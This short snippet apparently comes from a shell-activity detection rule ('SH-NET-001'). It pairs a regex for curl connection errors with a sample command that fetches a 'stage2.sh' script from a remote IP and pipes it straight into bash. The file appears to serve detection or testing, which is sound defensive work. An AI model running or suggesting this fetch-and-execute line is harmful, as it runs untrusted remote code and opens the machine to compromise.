# rule: SH-NET-001
# attempts: curl: \(\d+\) (Could not resolve host|Failed to connect|Couldn't connect)
bash <(curl -sS http://203.0.113.9/stage2.sh)
